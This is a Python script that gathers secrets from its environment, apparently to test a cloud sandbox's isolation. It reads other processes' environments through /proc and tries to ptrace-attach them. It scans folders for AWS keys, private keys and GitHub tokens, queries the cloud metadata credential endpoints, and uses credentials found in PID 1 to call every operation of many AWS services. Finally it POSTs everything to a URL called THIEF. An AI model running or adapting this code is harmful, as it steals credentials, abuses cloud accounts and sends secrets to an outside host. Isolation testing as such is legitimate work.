"""A job that looks everywhere, and calls AWS with what it finds: `look.py THIEF NAMES`."""

import contextlib
import ctypes
import json
import os
import re
import sys
import urllib.error
import urllib.request
from pathlib import Path

THIEF, NAMES = sys.argv[1], json.loads(sys.argv[2])
SERVICES = (
    *("dynamodb", "sqs", "s3", "ssm", "lambda", "iam", "sts", "kms", "logs"),
    *("cloudformation", "secretsmanager", "events", "scheduler", "codebuild"),
)
METADATA = (
    "http://169.254.169.254/latest/meta-data/iam/security-credentials/",
    "http://169.254.170.2/v2/credentials",
)
TREASURE = re.compile(rb"A[KS]IA[0-9A-Z]{16}|PRIVATE KEY|gh[ps]_\w{8,}|aws_secret", re.I)
ATTACH = 16
"""PTRACE_ATTACH"""


def read(path):
    try:
        with open(path, "rb") as file:
            return file.read(1 << 20).decode(errors="replace")
    except OSError as error:
        return f"refused: {error.errno}"


def process(pid):
    own = {name: read(f"/proc/{pid}/{name}") for name in ("cmdline", "environ", "maps")}
    try:
        open(f"/proc/{pid}/mem", "rb").close()
        own["mem"] = "open"
    except OSError as error:
        own["mem"] = f"refused: {error.errno}"
    try:
        own["fd"] = [os.readlink(f"/proc/{pid}/fd/{one}") for one in os.listdir(f"/proc/{pid}/fd")]
    except OSError as error:
        own["fd"] = f"refused: {error.errno}"
    # Last, and not of ourselves: who is attached to stops.
    if int(pid) not in (1, os.getpid()):
        libc = ctypes.CDLL(None, use_errno=True)
        done = libc.ptrace(ATTACH, int(pid), None, None)
        own["ptrace"] = "attached" if done == 0 else f"refused: {ctypes.get_errno()}"
        if done == 0:
            libc.ptrace(17, int(pid), None, None)
    return own


def files(folders):
    found = {}
    for folder in folders:
        for place, _, names in os.walk(folder):
            for name in names:
                path = os.path.join(place, name)
                with contextlib.suppress(OSError):
                    if os.path.isfile(path) and os.path.getsize(path) < 1 << 20:
                        data = Path(path).read_bytes()
                        if TREASURE.search(data) or name == "mark":
                            found[path] = data.decode(errors="replace")[:4000]
    return found


def metadata(url):
    try:
        with urllib.request.urlopen(url, timeout=2) as answer:
            return answer.read(1000).decode(errors="replace")
    except OSError as error:
        return f"refused: {error}"


def guess(shape, name="", deep=0):
    """The least that such a call needs, with the names that somebody has told us."""
    if name in NAMES:
        return [NAMES[name]] if shape.type_name == "list" else NAMES[name]
    if shape.type_name == "structure":
        if deep > 6:
            return {}
        wanted = set(shape.required_members) | (NAMES.keys() & shape.members.keys())
        return {one: guess(shape.members[one], one, deep + 1) for one in wanted}
    if shape.type_name == "list":
        return [guess(shape.member, name.removesuffix("s"), deep + 1)]
    if shape.type_name == "map":
        return {"pk": guess(shape.value, "", deep + 1)}
    simple = {"integer": 1, "long": 1, "boolean": True, "blob": b"x", "float": 1.0, "double": 1.0}
    if shape.type_name == "timestamp":
        return 0
    return simple.get(shape.type_name, (getattr(shape, "enum", None) or ["x" * 20])[0])


def calls(words):
    """Operation → AWS's word for its refusal, or what it gave."""
    sys.path[:0] = words["PYTHONPATH"].split(":")
    import botocore.session
    from botocore.config import Config
    from botocore.exceptions import ClientError

    session, told = botocore.session.get_session(), {}
    config = Config(
        retries={"total_max_attempts": 1},
        parameter_validation=False,
        s3={"addressing_style": "path"},
    )
    for service in SERVICES:
        client = session.create_client(
            service,
            region_name=words["AWS_REGION"],
            endpoint_url=words["AWS_ENDPOINT_URL"],
            aws_access_key_id=words["AWS_ACCESS_KEY_ID"],
            aws_secret_access_key=words["AWS_SECRET_ACCESS_KEY"],
            aws_session_token=words["AWS_SESSION_TOKEN"],
            config=config,
        )
        model = client.meta.service_model
        for operation in model.operation_names:
            shape = model.operation_model(operation).input_shape
            try:
                answer = client._make_api_call(operation, guess(shape) if shape else {})
                answer.pop("ResponseMetadata", None)
                told[f"{service}:{operation}"] = f"gave {answer}"[:500]
            except ClientError as error:
                word = error.response.get("Error", {}).get("Code", "?")
                status = error.response.get("ResponseMetadata", {}).get("HTTPStatusCode")
                told[f"{service}:{operation}"] = f"refused: {status} {word}"
            except Exception as error:
                told[f"{service}:{operation}"] = f"not sent: {type(error).__name__}: {error}"[:200]
    return told


of_first = dict(word.split("=", 1) for word in read("/proc/1/environ").split("\0") if "=" in word)
seen = {
    "environ": dict(os.environ),
    "processes": {pid: process(pid) for pid in os.listdir("/proc") if pid.isdigit()},
    "files": files(
        filter(
            None,
            (
                *(os.environ["HOME"], of_first.get("TMPDIR"), of_first.get("LAMBDA_TASK_ROOT")),
                *("/root/.aws", "/etc/aws", "/var/task", "/opt/aws", "/var/runtime"),
            ),
        )
    ),
    "metadata": {url: metadata(url) for url in METADATA},
    "first": of_first,
    "calls": calls(of_first) if "AWS_ACCESS_KEY_ID" in of_first else {},
}
request = urllib.request.Request(THIEF, json.dumps({"seen": seen}).encode())
urllib.request.urlopen(request).close()
